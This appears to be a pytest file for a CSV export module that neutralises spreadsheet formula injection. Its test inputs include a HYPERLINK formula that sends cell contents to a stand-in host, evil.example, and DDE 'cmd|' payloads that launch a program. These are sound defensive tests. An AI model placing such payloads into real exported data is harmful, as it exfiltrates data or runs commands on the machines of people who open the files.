"""CSV cells a spreadsheet opens as data (app.spreadsheet): text that could run as a formula gets a quote in
front, every text cell is quoted, numbers stay bare numbers."""

from __future__ import annotations

import csv
import io

import pytest

from app.spreadsheet import BOM, Cell, csv_stream, is_formula, neutralise


@pytest.mark.parametrize(
    "text",
    [
        pytest.param('=HYPERLINK("https://evil.example/?x="&A1,"grade")', id="equals-hyperlink"),
        pytest.param("=1+1", id="equals"),
        pytest.param("+1+cmd|' /C calc'!A0", id="plus"),
        pytest.param("-2+3+cmd|' /C calc'!A0", id="minus"),
        pytest.param("-12", id="minus-digits-as-text"),
        pytest.param("@SUM(1+9)", id="at"),
        pytest.param("\t=1+1", id="tab"),
        pytest.param("\tanything", id="tab-then-text"),
        pytest.param("\r=1+1", id="carriage-return"),
        pytest.param("\0=1+1", id="nul"),
        pytest.param("  =1+1", id="spaces-then-equals"),
        pytest.param("\n=1+1", id="line-feed-then-equals"),
        pytest.param("\u00a0=1+1", id="no-break-space-then-equals"),
    ],
)
def test_text_that_could_run_is_prefixed_with_a_quote(text: str) -> None:
    assert is_formula(text)
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize(
    "text",
    [
        pytest.param("", id="empty"),
        pytest.param("Zoë Ångström", id="a-name"),
        pytest.param("s-1", id="dash-inside"),
        pytest.param("a,=1+1", id="formula-after-a-comma"),
        pytest.param("a;=1+1", id="formula-after-a-semicolon"),
        pytest.param("'=1+1", id="already-quoted"),
        pytest.param("2026-12-01T10:00:00+00:00", id="iso-time"),
    ],
)
def test_other_text_is_written_as_it_is(text: str) -> None:
    assert not is_formula(text)
    assert neutralise(text) == text


@pytest.mark.parametrize(
    ("value", "written"),
    [
        pytest.param(-3, -3, id="negative-int"),
        pytest.param(0, 0, id="zero"),
        pytest.param(-0.25, -0.25, id="negative-float"),
        pytest.param(True, "True", id="true"),
        pytest.param(False, "False", id="false"),
        pytest.param(None, "", id="none"),
    ],
)
def test_numbers_booleans_and_none(value: Cell, written: str | int | float) -> None:
    assert neutralise(value) == written
    assert type(neutralise(value)) is type(written)


def csv_text(columns: list[str], rows: list[dict[str, Cell]], **kwargs: int) -> str:
    return "".join(csv_stream(columns, rows, **kwargs))


def test_the_csv_has_a_bom_a_header_and_crlf_line_ends() -> None:
    text = csv_text(["name", "score"], [{"name": "Ada", "score": 3}])
    assert text == BOM + 'name,score\r\n"Ada",3\r\n'


def test_numbers_are_bare_and_text_is_quoted_even_when_negative() -> None:
    text = csv_text(["name", "delta", "mean"], [{"name": "-5", "delta": -5, "mean": -0.5}])
    assert text.splitlines()[1] == "\"'-5\",-5,-0.5"


def test_a_formula_is_one_quoted_cell_with_its_quotes_doubled() -> None:
    formula = '=HYPERLINK("https://evil.example","x")'
    text = csv_text(["name"], [{"name": formula}])
    assert text.splitlines()[1] == '"\'=HYPERLINK(""https://evil.example"",""x"")"'


def test_a_separator_inside_a_value_cannot_start_a_cell() -> None:
    text = csv_text(["a", "b"], [{"a": "x,=1+1;=2+2", "b": "\r\n=3+3"}])
    (row,) = list(csv.reader(io.StringIO(text.removeprefix(BOM).split("\r\n", 1)[1], newline="")))
    assert row == ["x,=1+1;=2+2", "'\r\n=3+3"]


def test_a_missing_value_is_an_empty_cell() -> None:
    assert csv_text(["a", "b"], [{"a": 1}]).splitlines()[1] == '1,""'


def test_a_value_for_no_column_is_refused() -> None:
    with pytest.raises(ValueError, match=r"\['nmae'\], which are not columns"):
        csv_text(["name"], [{"nmae": "Ada"}])


def test_rows_come_in_batches() -> None:
    chunks = list(csv_stream(["n"], ({"n": number} for number in range(5)), batch_rows=2))
    assert [chunk.count("\r\n") for chunk in chunks] == [3, 2, 1]  # header + 2, 2, 1
    assert "".join(chunks).splitlines()[1:] == ["0", "1", "2", "3", "4"]
